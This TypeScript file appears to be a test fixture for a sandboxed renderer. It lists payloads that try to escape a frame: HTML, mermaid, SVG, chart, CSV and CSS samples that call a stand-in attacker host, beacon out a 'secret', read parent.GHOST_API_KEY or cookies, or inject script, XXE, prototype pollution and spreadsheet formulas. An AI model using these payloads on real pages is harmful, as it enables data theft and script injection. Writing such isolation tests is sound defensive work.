/** What a page in the frame tries in order to reach another server. */
export const reaching = (evil: string): readonly (readonly [name: string, html: string])[] => [
  ['an image', `<img src="${evil}/a">`],
  ['an image of many sizes', `<img srcset="${evil}/a 1x" alt="">`],
  ['a style', `<style>body { background: url(${evil}/a) }</style>x`],
  ['an imported style', `<style>@import "${evil}/a";</style>`],
  [
    'a font',
    `<style>@font-face { font-family: x; src: url(${evil}/a) } p { font-family: x }</style><p>x</p>`,
  ],
  ['a linked style', `<link rel="stylesheet" href="${evil}/a">`],
  ['a preload', `<link rel="preload" as="image" href="${evil}/a">`],
  ['a preconnect', `<link rel="preconnect" href="${evil}">`],
  ['a script', `<script src="${evil}/a"></script>`],
  ['a module', `<script>import('${evil}/a').catch(() => {})</script>`],
  ['a fetch', `<script>fetch('${evil}/a', { mode: 'no-cors' }).catch(() => {})</script>`],
  [
    'a request of the old kind',
    `<script>{ const x = new XMLHttpRequest(); x.open('GET', '${evil}/a'); x.send() }</script>`,
  ],
  ['a beacon', `<script>navigator.sendBeacon('${evil}/a', 'secret')</script>`],
  ['a socket', `<script>try { new WebSocket('${evil.replace('http', 'ws')}/a') } catch {}</script>`],
  ['a stream of events', `<script>new EventSource('${evil}/a')</script>`],
  [
    'a peer behind a relay',
    `<script>{
      const relay = { urls: '${evil.replace('http://', 'turn:')}?transport=tcp', username: 'x', credential: 'x' }
      const peer = new RTCPeerConnection({ iceServers: [relay] })
      peer.createDataChannel('x')
      peer.createOffer().then((offer) => peer.setLocalDescription(offer))
    }</script>`,
  ],
  [
    'a worker',
    `<script>new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/a', { mode: 'no-cors' })"])))</script>`,
  ],
  ['a frame', `<iframe src="${evil}/a"></iframe>`],
  ['a frame in a frame', `<iframe srcdoc="<img src='${evil}/a'>"></iframe>`],
  ['an object', `<object data="${evil}/a"></object>`],
  ['an embed', `<embed src="${evil}/a">`],
  ['a video and its poster', `<video src="${evil}/a" poster="${evil}/b" autoplay></video>`],
  [
    'a form',
    `<form action="${evil}/a" method="post"><input name="x"></form><script>document.forms[0].submit()</script>`,
  ],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${evil}/a">`],
  ['leading itself away', `<script>location = '${evil}/a'</script>`],
  [
    'a link that clicks itself',
    `<a href="${evil}/a" ping="${evil}/b">x</a><script>document.querySelector('a').click()</script>`,
  ],
  ['a base address', `<base href="${evil}/"><img src="a">`],
  ['a drawing', `<svg><image href="${evil}/a" width="9" height="9"/></svg>`],
]

/** What such a page tries in order to touch the page around it; each tells whether it was let. */
export const TOUCHES: Readonly<Record<string, string>> = {
  'the document around it': 'parent.document.title',
  'the address around it': 'parent.location.href',
  'the key': 'parent.GHOST_API_KEY',
  'its own element': 'frameElement.id',
  'leading the page away': "top.location = 'about:blank#led'",
  'a window of its own': "(() => { if (!open('about:blank')) throw new Error('none') })()",
  'what is stored': 'localStorage.length',
  'what is stored for a session': 'sessionStorage.length',
  'a cookie': 'document.cookie',
  'a database': "indexedDB.open('x')",
  'a cache': "caches.open('x')",
  'a worker of the page': "navigator.serviceWorker.register('/sw.js')",
}

/** Fenced blocks that are drawn without running them, and try to load or run something all the same. */
export const drawn = (evil: string): readonly (readonly [language: string, text: string])[] => [
  [
    'mermaid',
    `flowchart LR\n a["<img src='${evil}/1'>"] --> b\n click a "javascript:parent.hacked=1"\n click b call hacked()`,
  ],
  [
    'mermaid',
    `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* { background: url(${evil}/2) }"}}%%\nflowchart LR\n a["<script>parent.hacked=1</script>"] --> b`,
  ],
  [
    'mermaid',
    `---\nconfig:\n  securityLevel: loose\n  fontFamily: "x; background: url(${evil}/3)"\n---\nflowchart LR\n a@{ img: "${evil}/4", label: "x" }\n classDef z fill:url(${evil}/5)\n class a z`,
  ],
  [
    'svg',
    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="parent.hacked=1"><script>parent.hacked=1</script><image href="${evil}/6" width="9" height="9"/><use href="${evil}/7#a"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${evil}/8" onerror="parent.hacked=1"/></foreignObject><style>@import "${evil}/9";</style></svg>`,
  ],
  [
    'svg',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "${evil}/10"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>&x;&b;</text></svg>`,
  ],
  [
    'chart',
    `{"type":"bar","data":{"labels":["<img src='${evil}/11' onerror=parent.hacked=1>"],"datasets":[{"label":"<script>parent.hacked=1</script>","data":[1],"pointStyle":"${evil}/12","backgroundColor":"url(${evil}/13)"}]},"options":{"__proto__":{"hacked":1},"onClick":"hacked=1","plugins":{"tooltip":{"external":"hacked=1","callbacks":{"label":"hacked=1"}}}}}`,
  ],
  [
    'csv',
    `__proto__,constructor,x\n=HYPERLINK("${evil}/14"),<img src='${evil}/15' onerror=parent.hacked=1>,\u202e1\n`,
  ],
  ['css', `@import "${evil}/16"; body { background: url(${evil}/17) } button { behavior: url(${evil}/18) }`],
  [
    'js',
    `document.body.innerHTML = '<img src="${evil}/19">'; fetch('${evil}/20').catch(() => {}); parent.postMessage({ type: 'ghost:diagram', step: 'drawn', svg: '<svg onload="parent.hacked=1">' }, '*')`,
  ],
]
